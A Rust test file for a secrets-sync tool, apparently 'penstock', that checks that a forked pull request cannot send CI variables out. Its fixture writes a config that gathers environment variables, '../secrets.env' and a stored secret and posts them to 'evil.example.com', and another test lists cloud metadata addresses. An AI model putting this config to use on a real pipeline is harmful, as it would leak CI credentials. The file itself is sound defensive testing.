//! Inputs are code: the pull request from a fork that tries to send CI's variables away.

use std::net::TcpListener;

use insta::assert_snapshot;

use super::stage::{Stage, literals, marker};

fn store(name: &str, address: &str) -> String {
    format!(
        "---
apiVersion: penstock.dev/v1alpha1
kind: SecretStore
metadata: {{name: {name}}}
spec: {{provider: {{vault: {{address: '{address}', auth: {{token: {{secretRef: {{name: {name}, key: token}}}}}}}}}}}}
---
apiVersion: v1
kind: Secret
metadata: {{name: {name}, annotations: {{penstock.dev/from.token: env:CI_TOKEN}}}}
"
    )
}

/// What a stranger would add to the documents of a repository.
fn pull_request(address: &str) -> String {
    let sync = "apiVersion: penstock.dev/v1alpha1
kind: SecretSync
metadata: {name: app}
spec:
  sources:
  - {name: mine, store: {name: mine}, path: x}
  - {name: vars, processEnvironment: {}, select: {matching: '.'}}
  - {name: file, file: {path: ../secrets.env}}
  - {name: creds, secret: {name: real}}
  targets: [{name: env, file: {path: app.env}, then: [{http: {url: 'https://evil.example.com'}}], healthCheck: {url: 'https://evil.example.com'}}]
  validate:
  - {name: call, key: A, http: {url: 'https://evil.example.com', header: {X: '{{ value }}'}}}
  - {name: fine, key: A, matching: '.'}
";
    format!("{sync}{}", store("mine", address))
}

#[test]
fn a_strangers_documents_may_say_nothing_that_leads_in_or_out() {
    let evil = TcpListener::bind("127.0.0.1:0").unwrap();
    evil.set_nonblocking(true).unwrap();
    let address = format!("http://{}", evil.local_addr().unwrap());
    let stage = Stage::new().with("CI_TOKEN", &marker("ci"));
    stage.file("pr/app.yaml", &pull_request(&address));
    stage.file(
        "trusted/stores.yaml",
        &store("real", "https://vault.example.com"),
    );
    let run = stage
        .penstock("plan -f pr --trusted-stores trusted")
        .ended(1);
    let shown = run.to_string().replace(&address, "http://evil");
    assert_snapshot!(shown);
    assert!(evil.accept().is_err(), "nobody has called");
}

#[test]
fn what_a_stranger_would_touch_is_listed_without_touching_it() {
    let evil = TcpListener::bind("127.0.0.1:0").unwrap();
    evil.set_nonblocking(true).unwrap();
    let address = format!("http://{}", evil.local_addr().unwrap());
    let stage = Stage::new().with("CI_TOKEN", &marker("ci"));
    let sync = literals(&[], "").replace("literal: {}", "store: {name: mine}, path: x");
    stage.file("pr/app.yaml", &format!("{sync}{}", store("mine", &address)));
    let run = stage.penstock("plan -f pr --offline").ended(0);
    assert!(
        run.stdout
            .contains(evil.local_addr().unwrap().to_string().as_str()),
        "{run}"
    );
    assert!(run.stdout.contains("reads the variable CI_TOKEN"), "{run}");
    assert!(evil.accept().is_err(), "nobody has called");
}

#[test]
fn trusted_stores_serve_documents_that_say_nothing_else() {
    let stage = Stage::new();
    stage.file("pr/app.yaml", &literals(&[("A", "x")], ""));
    stage.file(
        "trusted/stores.yaml",
        &store("real", "https://vault.example.com"),
    );
    stage
        .penstock("plan -f pr --trusted-stores trusted")
        .ended(2);
}

#[test]
fn credentials_that_come_out_of_themselves_are_refused() {
    let stage = Stage::new();
    let sync = literals(&[], "").replace("literal: {}", "store: {name: a}, path: x");
    let circle = |name: &str, from: &str| {
        store(name, "https://vault.example.com")
            .replace("env:CI_TOKEN", &format!("'store:{from}/x#token'"))
    };
    stage.file(
        "app.yaml",
        &format!("{sync}{}{}", circle("a", "b"), circle("b", "a")),
    );
    assert_snapshot!(stage.penstock("plan -f app.yaml").ended(1));
}

#[test]
fn metadata_services_and_the_local_link_are_never_reached() {
    let stage = Stage::new().with("CI_TOKEN", &marker("ci"));
    for address in [
        "http://169.254.169.254",
        "https://169.254.169.254",
        "http://203.0.113.7",
        "https://169.254.1.1",
    ] {
        let sync = literals(&[], "").replace("literal: {}", "store: {name: a}, path: x");
        stage.file("app.yaml", &format!("{sync}{}", store("a", address)));
        let run = stage.penstock("plan -f app.yaml -q").ended(1);
        assert!(run.stdout.contains("EgressDenied"), "{run}");
    }
}
